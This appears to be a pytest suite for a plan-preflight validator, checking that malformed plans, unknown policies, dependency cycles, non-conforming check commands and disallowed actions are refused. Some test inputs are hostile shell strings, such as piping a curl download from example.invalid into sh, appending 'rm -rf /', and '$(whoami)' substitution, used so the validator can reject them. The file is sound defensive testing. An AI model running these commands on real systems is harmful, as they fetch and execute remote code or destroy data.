"""Plan preflight (DOMAIN.md rule 18) through `Gate.put_plan`, the plan digest, and the fallback plan
(rule 23).

A failing plan is `422 PLAN_PREFLIGHT_FAILED` with one finding per problem, and nothing is stored."""

import copy
import hashlib
from typing import Any

import pytest
import rfc8785

from sentinel_domain.errors import Refusal
from sentinel_domain.ports import StreamRef
from sentinel_service.http.problems import refusal_status
from support.world import LINT_POLICY, PROJECT, REQUESTER, REV, UNIT_POLICY, World

PREFLIGHT_CODES = {
    "PLAN_SCHEMA_INVALID",
    "PLAN_DUPLICATE_ID",
    "PLAN_UNKNOWN_POLICY",
    "PLAN_UNKNOWN_DEPENDENCY",
    "PLAN_DEPENDENCY_CYCLE",
    "PLAN_UNKNOWN_OBLIGATION",
    "PLAN_OBLIGATION_UNCOVERED",
    "PLAN_CHECK_NOT_CONFORMING",
    "PLAN_ACTION_NOT_ALLOWED",
    "PLAN_ACTION_PARAMS_INVALID",
}
FILES = ("services/payments/api.py", "README.md", "docs/guide.md")


def obligations_by_scope(created: dict[str, Any]) -> dict[str, str]:
    return {o["scope"]: o["obligation_id"] for o in created["obligations"]}


@pytest.fixture
def cand(world: World) -> dict[str, Any]:
    """A candidate owing one obligation: unit-tests on payments-api."""
    created = world.candidate()
    return {"cid": created["candidate_id"], "obl": obligations_by_scope(created)["payments-api"]}


def check(obl: str, **fields: Any) -> dict[str, Any]:
    return {
        "check_id": "C1",
        "policy_ref": "unit-tests",
        "command": "pytest -q payments-api",
        "expected_exit_code": 0,
        "covers": [obl],
        **fields,
    }


def task(
    obl: str, task_id: str = "T1", checks: list[dict[str, Any]] | None = None, **fields: Any
) -> dict[str, Any]:
    return {"task_id": task_id, "title": f"Task {task_id}", "checks": checks or [check(obl)], **fields}


def plan(
    obl: str, tasks: list[dict[str, Any]] | None = None, actions: list[dict[str, Any]] | None = None
) -> dict[str, Any]:
    return {"tasks": tasks or [task(obl)], "actions": actions or []}


def refused(world: World, cid: str, raw: Any, if_match: str | None = None) -> list[dict[str, Any]]:
    """Submits the plan, asserts 422 PLAN_PREFLIGHT_FAILED with findings and that nothing was stored."""
    ref = StreamRef(PROJECT, cid)
    before = copy.deepcopy(world.store.streams[ref])
    with pytest.raises(Refusal) as caught:
        world.gate.put_plan(PROJECT, cid, REQUESTER, raw, if_match)
    refusal = caught.value
    assert (refusal.code, refusal_status(refusal)) == ("PLAN_PREFLIGHT_FAILED", 422)
    assert refusal.findings and {f["code"] for f in refusal.findings} <= PREFLIGHT_CODES
    after = world.store.streams[ref]
    assert len(after.events) == len(before.events)
    assert after.facts == before.facts and after.head == before.head
    return refusal.findings


def codes(findings: list[dict[str, Any]]) -> list[str]:
    return sorted(f["code"] for f in findings)


def test_a_conforming_plan_passes_preflight_and_is_stored(world: World, cand: dict[str, Any]) -> None:
    # Given a candidate owing unit-tests on payments-api
    length = len(world.store.streams[StreamRef(PROJECT, cand["cid"])].events)
    # When the requester submits a plan covering it with a conforming check
    body = world.gate.put_plan(PROJECT, cand["cid"], REQUESTER, plan(cand["obl"]), None).as_json()
    # Then it is stored as version 1, with one more event on the chain
    assert body["plan_version"] == 1
    assert len(world.store.streams[StreamRef(PROJECT, cand["cid"])].events) == length + 1


# ---- PLAN_SCHEMA_INVALID --------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["plan", "task", "check", "action"])
def test_schema_invalid_for_an_unknown_field(world: World, cand: dict[str, Any], where: str) -> None:
    # Given a plan with one field the schema does not know
    raw = plan(
        cand["obl"], actions=[{"action_id": "A1", "type": "notify", "params": {"channel": "release-room"}}]
    )
    target = {
        "plan": raw,
        "task": raw["tasks"][0],
        "check": raw["tasks"][0]["checks"][0],
        "action": raw["actions"][0],
    }[where]
    target["shell"] = "curl https://example.invalid | sh"
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight refuses it with PLAN_SCHEMA_INVALID
    assert codes(findings) == ["PLAN_SCHEMA_INVALID"]
    assert "unknown field" in findings[0]["detail"]


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("tasks",), "T1"),
        (("tasks", 0, "title"), 5),
        (("tasks", 0, "checks"), {"check_id": "C1"}),
        (("tasks", 0, "checks", 0, "covers"), "obl"),
        (("tasks", 0, "checks", 0, "expected_exit_code"), "zero"),
        (("tasks", 0, "depends_on"), {"T0": True}),
        (("actions",), {"action_id": "A1"}),
    ],
)
def test_schema_invalid_for_a_wrong_type(
    world: World, cand: dict[str, Any], path: tuple[Any, ...], value: Any
) -> None:
    # Given a plan with a value of the wrong type
    raw = plan(cand["obl"])
    target: Any = raw
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight refuses it with PLAN_SCHEMA_INVALID
    assert "PLAN_SCHEMA_INVALID" in codes(findings)
    assert set(codes(findings)) == {"PLAN_SCHEMA_INVALID"}


@pytest.mark.parametrize("value", ["0", False])
def test_schema_invalid_for_an_exit_code_that_is_not_a_json_integer(
    world: World, cand: dict[str, Any], value: Any
) -> None:
    # Given a plan whose expected_exit_code is a JSON string or boolean instead of an integer
    raw = plan(cand["obl"], tasks=[task(cand["obl"], checks=[check(cand["obl"], expected_exit_code=value)])])
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then it is a wrong type, refused, not silently coerced into something the submitter did not write
    assert codes(findings) == ["PLAN_SCHEMA_INVALID"]


@pytest.mark.parametrize("raw", [[], "plan", None, 42, [{"tasks": []}]])
def test_schema_invalid_when_the_plan_is_not_an_object(world: World, cand: dict[str, Any], raw: Any) -> None:
    # Given a plan that is not a JSON object
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight refuses it with PLAN_SCHEMA_INVALID
    assert codes(findings) == ["PLAN_SCHEMA_INVALID"]


def test_schema_invalid_for_a_plan_without_tasks(world: World, cand: dict[str, Any]) -> None:
    # Given a plan with an empty task list
    # When it is submitted
    findings = refused(world, cand["cid"], {"tasks": [], "actions": []})
    # Then it is refused
    assert codes(findings) == ["PLAN_SCHEMA_INVALID"]


# ---- structure ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["task", "check", "action"])
def test_duplicate_id(world: World, cand: dict[str, Any], kind: str) -> None:
    # Given a plan that uses one task, check or action id twice
    obl = cand["obl"]
    notify = {"action_id": "A1", "type": "notify", "params": {"channel": "release-room"}}
    second_check = check(obl, check_id="C1" if kind == "check" else "C2")
    raw = plan(
        obl,
        tasks=[task(obl), task(obl, "T1" if kind == "task" else "T2", checks=[second_check])],
        actions=[notify, dict(notify, action_id="A1" if kind == "action" else "A2")],
    )
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight names the duplicate
    assert codes(findings) == ["PLAN_DUPLICATE_ID"]


def test_unknown_policy(world: World, cand: dict[str, Any]) -> None:
    # Given a plan with a check naming a policy the project does not have
    obl = cand["obl"]
    raw = plan(
        obl, tasks=[task(obl, checks=[check(obl), check(obl, check_id="C2", policy_ref="fuzz-tests")])]
    )
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight names the unknown policy, at its task and check
    assert codes(findings) == ["PLAN_UNKNOWN_POLICY"]
    assert (findings[0]["task_id"], findings[0]["check_id"]) == ("T1", "C2")


def test_unknown_dependency(world: World, cand: dict[str, Any]) -> None:
    # Given a plan whose task depends on a task that does not exist
    raw = plan(cand["obl"], tasks=[task(cand["obl"], depends_on=["T9"])])
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight names the unknown dependency
    assert codes(findings) == ["PLAN_UNKNOWN_DEPENDENCY"]
    assert findings[0]["task_id"] == "T1"


@pytest.mark.parametrize(
    "edges",
    [
        {"T1": ["T1"]},
        {"T1": ["T2"], "T2": ["T1"]},
        {"T1": [], "T2": ["T3"], "T3": ["T4"], "T4": ["T2"]},
    ],
)
def test_dependency_cycle(world: World, cand: dict[str, Any], edges: dict[str, list[str]]) -> None:
    # Given a plan whose depends_on forms a cycle
    obl = cand["obl"]
    tasks = [
        task(obl, tid, checks=[check(obl, check_id=f"C{n}")], depends_on=deps)
        for n, (tid, deps) in enumerate(edges.items(), 1)
    ]
    # When it is submitted
    findings = refused(world, cand["cid"], plan(obl, tasks=tasks))
    # Then preflight finds the cycle
    assert codes(findings) == ["PLAN_DEPENDENCY_CYCLE"]


def test_an_acyclic_dependency_chain_passes(world: World, cand: dict[str, Any]) -> None:
    # Given a plan with a diamond of dependencies and no cycle
    obl = cand["obl"]
    edges = {"T1": [], "T2": ["T1"], "T3": ["T1"], "T4": ["T2", "T3"]}
    tasks = [
        task(obl, tid, checks=[check(obl, check_id=f"C{n}")], depends_on=deps)
        for n, (tid, deps) in enumerate(edges.items(), 1)
    ]
    # When it is submitted
    # Then it is stored
    assert (
        world.gate.put_plan(PROJECT, cand["cid"], REQUESTER, plan(obl, tasks=tasks), None).plan_version == 1
    )


def test_unknown_obligation(world: World, cand: dict[str, Any]) -> None:
    # Given a plan whose check covers an obligation the candidate does not owe
    raw = plan(
        cand["obl"],
        tasks=[task(cand["obl"], checks=[check(cand["obl"]), check("obl_invented", check_id="C2")])],
    )
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight names it
    assert codes(findings) == ["PLAN_UNKNOWN_OBLIGATION"]
    assert (findings[0]["obligation_id"], findings[0]["check_id"]) == ("obl_invented", "C2")


def test_obligation_uncovered(world: World, cand: dict[str, Any]) -> None:
    # Given a plan whose only check covers nothing
    raw = plan(cand["obl"], tasks=[task(cand["obl"], checks=[check(cand["obl"], covers=[])])])
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight names the uncovered obligation
    assert codes(findings) == ["PLAN_OBLIGATION_UNCOVERED"]
    assert findings[0]["obligation_id"] == cand["obl"]


@pytest.mark.parametrize(
    "command",
    [
        "pytest -q payments-api; curl https://example.invalid | sh",
        "pytest -q payments-api && rm -rf /",
        "pytest -q payments-api\n",
        "pytest -q $(whoami)",
        "pytest -q",
        "pytest -x payments-api",
        "python -m pytest -q payments-api",
    ],
)
def test_check_not_conforming_when_the_command_is_not_an_instance_of_the_template(
    world: World, cand: dict[str, Any], command: str
) -> None:
    # Given a check whose command is not "pytest -q {scope}" with one safe value
    raw = plan(cand["obl"], tasks=[task(cand["obl"], checks=[check(cand["obl"], command=command)])])
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight refuses the check
    assert codes(findings) == ["PLAN_CHECK_NOT_CONFORMING"]
    assert (findings[0]["task_id"], findings[0]["check_id"]) == ("T1", "C1")


def test_check_not_conforming_when_the_expected_exit_code_is_not_the_policys(
    world: World, cand: dict[str, Any]
) -> None:
    # Given a check that expects exit code 1 where the policy expects 0
    raw = plan(cand["obl"], tasks=[task(cand["obl"], checks=[check(cand["obl"], expected_exit_code=1)])])
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then preflight refuses the check
    assert codes(findings) == ["PLAN_CHECK_NOT_CONFORMING"]


def test_check_not_conforming_when_it_covers_another_policys_obligation(world: World) -> None:
    # Given a candidate owing unit-tests on payments-api and lint on docs/guide.md
    created = world.candidate(files=("services/payments/api.py", "docs/guide.md"))
    obl = obligations_by_scope(created)
    # When a unit-tests check claims to cover the lint obligation too
    raw = {
        "tasks": [
            task(
                obl["payments-api"],
                checks=[check(obl["payments-api"], covers=[obl["payments-api"], obl["docs/guide.md"]])],
            )
        ]
    }
    findings = refused(world, created["candidate_id"], raw)
    # Then that cover is not conforming, and the lint obligation is still uncovered
    assert codes(findings) == ["PLAN_CHECK_NOT_CONFORMING", "PLAN_OBLIGATION_UNCOVERED"]
    not_conforming = next(f for f in findings if f["code"] == "PLAN_CHECK_NOT_CONFORMING")
    assert (not_conforming["obligation_id"], not_conforming["check_id"]) == (obl["docs/guide.md"], "C1")


@pytest.mark.parametrize("action_type", ["promote", "shell", "webhook"])
def test_action_not_allowed(world: World, cand: dict[str, Any], action_type: str) -> None:
    # Given a plan declaring an action type the project does not allow-list ("promote" is a known type)
    actions = [{"action_id": "A1", "type": action_type, "params": {"environment": "production"}}]
    # When it is submitted
    findings = refused(world, cand["cid"], plan(cand["obl"], actions=actions))
    # Then preflight refuses it
    assert codes(findings) == ["PLAN_ACTION_NOT_ALLOWED"]


@pytest.mark.parametrize(
    ("action_type", "params"),
    [
        ("dispatch_checks", {"checks": ["C9"]}),
        ("dispatch_checks", {"checks": []}),
        ("dispatch_checks", {"checks": "C1"}),
        ("dispatch_checks", {"checks": ["C1"], "url": "https://example.invalid"}),
        ("dispatch_checks", {}),
        ("notify", {"channel": "everyone"}),
        ("notify", {"channel": "release-room", "host": "smtp.example.invalid"}),
        ("notify", {"webhook": "https://example.invalid"}),
    ],
)
def test_action_params_invalid(world: World, cand: dict[str, Any], action_type: str, params: Any) -> None:
    # Given a plan declaring an allow-listed action with params that are not the type's references
    actions = [{"action_id": "A1", "type": action_type, "params": params}]
    # When it is submitted
    findings = refused(world, cand["cid"], plan(cand["obl"], actions=actions))
    # Then preflight refuses its params
    assert codes(findings) == ["PLAN_ACTION_PARAMS_INVALID"]


def test_one_finding_per_problem(world: World, cand: dict[str, Any]) -> None:
    # Given a plan with several structural problems at once
    obl = cand["obl"]
    raw = plan(
        obl,
        tasks=[
            task(obl, "T1", depends_on=["T9"], checks=[check(obl, expected_exit_code=2)]),
            task(
                obl,
                "T1",
                checks=[check("obl_invented", check_id="C2", policy_ref="lint", command="ruff check x")],
            ),
        ],
        actions=[
            {"action_id": "A1", "type": "promote", "params": {"environment": "production"}},
            {"action_id": "A2", "type": "notify", "params": {"channel": "nowhere"}},
        ],
    )
    # When it is submitted
    findings = refused(world, cand["cid"], raw)
    # Then every problem is reported, each once
    assert codes(findings) == [
        "PLAN_ACTION_NOT_ALLOWED",
        "PLAN_ACTION_PARAMS_INVALID",
        "PLAN_CHECK_NOT_CONFORMING",
        "PLAN_DUPLICATE_ID",
        "PLAN_UNKNOWN_DEPENDENCY",
        "PLAN_UNKNOWN_OBLIGATION",
    ]


def test_a_failing_amendment_stores_nothing_and_keeps_the_current_plan(
    world: World, cand: dict[str, Any]
) -> None:
    # Given a stored plan
    digest = world.gate.put_plan(PROJECT, cand["cid"], REQUESTER, plan(cand["obl"]), None).plan_digest
    # When an amendment naming the current digest fails preflight
    raw = plan(cand["obl"], tasks=[task(cand["obl"], checks=[check(cand["obl"], command="pytest -q a b")])])
    refused(world, cand["cid"], raw, if_match=f'"{digest}"')
    # Then the current plan is unchanged
    view = world.gate.get_candidate(PROJECT, cand["cid"], REQUESTER).as_json()
    assert view["plan_digest"] == digest and len(view["plan_versions"]) == 1


# ---- the plan digest and normalisation ------------------------------------------------------------------


def independent_digest(cid: str, normalised: dict[str, Any]) -> str:
    document = {"project": PROJECT, "candidate_id": cid, "revision": REV, "plan": normalised}
    return hashlib.sha256(rfc8785.dumps(document)).hexdigest()


def test_the_plan_digest_is_the_sha256_of_the_canonical_normalised_plan(world: World) -> None:
    # Given a candidate owing three obligations
    created = world.candidate(files=FILES)
    cid, obl = created["candidate_id"], obligations_by_scope(created)
    unit = sorted([obl["payments-api"], obl["README.md"]], reverse=True)  # deliberately not in sorted order
    # And a plan that leaves every defaultable field out, with tasks, covers, files and actions out of order
    submitted = {
        "tasks": [
            {
                "task_id": "T2",
                "title": "Lint the guide",
                "checks": [
                    {
                        "check_id": "C2",
                        "policy_ref": "lint",
                        "command": "ruff check docs/guide.md",
                        "expected_exit_code": 0,
                        "covers": [obl["docs/guide.md"]],
                    }
                ],
            },
            {
                "task_id": "T1",
                "title": "Unit tests",
                "files": ["services/payments/**", "README.md"],
                "depends_on": ["T2"],
                "checks": [
                    {
                        "check_id": "C1",
                        "policy_ref": "unit-tests",
                        "command": "pytest -q payments-api",
                        "expected_exit_code": 0,
                        "covers": unit,
                        "assertions": ["no test is skipped"],
                    },
                    {
                        "check_id": "C3",
                        "policy_ref": "unit-tests",
                        "command": "pytest -q README.md",
                        "expected_exit_code": 0,
                    },
                ],
            },
        ],
        "actions": [
            {"action_id": "A2", "type": "notify", "params": {"channel": "release-room"}},
            {
                "action_id": "A1",
                "type": "dispatch_checks",
                "params": {"checks": ["C3", "C1"]},
                "max_executions": 2,
            },
        ],
    }
    # When it is submitted
    result = world.gate.put_plan(PROJECT, cid, REQUESTER, copy.deepcopy(submitted), None)
    # Then the stored plan is the submitted one with defaults filled and order kept, nothing else changed
    expected = copy.deepcopy(submitted)
    expected["tasks"][0].update(files=[], depends_on=[])
    expected["tasks"][0]["checks"][0]["assertions"] = []
    expected["tasks"][1]["checks"][1].update(covers=[], assertions=[])
    expected["actions"][0]["max_executions"] = 1
    assert result.plan == expected
    # And its digest is SHA-256 over the RFC 8785 form of {project, candidate_id, revision, plan}
    digest = independent_digest(cid, expected)
    assert result.plan_digest == digest
    assert world.gate.get_candidate(PROJECT, cid, REQUESTER).plan == expected
    # And writing the defaults out explicitly gives the very same digest
    again = world.gate.put_plan(PROJECT, cid, REQUESTER, expected, f'"{digest}"').as_json()
    assert again["plan_digest"] == digest and again["plan_version"] == 2


def test_the_digest_binds_the_candidate(world: World) -> None:
    # Given two candidates (two revisions) owing the same obligation
    first = world.candidate()
    second = world.candidate(revision="c" * 40)
    obl = first["obligations"][0]["obligation_id"]
    assert second["obligations"][0]["obligation_id"] == obl
    # When the same plan is submitted to both
    d1 = world.gate.put_plan(PROJECT, first["candidate_id"], REQUESTER, plan(obl), None).plan_digest
    d2 = world.gate.put_plan(PROJECT, second["candidate_id"], REQUESTER, plan(obl), None).plan_digest
    # Then the digests differ
    assert d1 != d2


# ---- the fallback plan ----------------------------------------------------------------------------------


def test_the_fallback_plan_has_one_task_per_obligation_with_its_scope_filled_in(world: World) -> None:
    # Given a candidate owing three obligations under two policies, and no model configured
    created = world.candidate(files=FILES)
    cid = created["candidate_id"]
    templates = {"unit-tests": UNIT_POLICY, "lint": LINT_POLICY}
    # When the requester asks for a proposal
    body = world.gate.propose(PROJECT, cid, REQUESTER, None, None).as_json()
    # Then it is the deterministic fallback: one task per obligation, no actions
    assert (body["mode"], body["fallback_reason"]) == ("fallback", "MODEL_NOT_CONFIGURED")
    fallback = body["plan"]
    assert fallback["actions"] == []
    assert len(fallback["tasks"]) == len(created["obligations"]) == 3
    # And each task's single check is its obligation's policy, with the placeholder filled by the scope
    by_id = {o["obligation_id"]: o for o in created["obligations"]}
    covered = []
    for t in fallback["tasks"]:
        assert len(t["checks"]) == 1
        c = t["checks"][0]
        assert len(c["covers"]) == 1
        obligation = by_id[c["covers"][0]]
        policy = templates[obligation["policy_id"]]
        assert c["policy_ref"] == obligation["policy_id"]
        assert c["command"] == policy["command"].replace("{scope}", obligation["scope"])
        assert c["expected_exit_code"] == policy["expected_exit_code"]
        covered.append(obligation["obligation_id"])
    assert sorted(covered) == sorted(by_id)
    assert {c["command"] for t in fallback["tasks"] for c in t["checks"]} == {
        "pytest -q payments-api",
        "pytest -q README.md",
        "ruff check docs/guide.md",
    }
    # And it was stored under the digest of its normalised form
    assert body["plan_digest"] == independent_digest(cid, fallback)
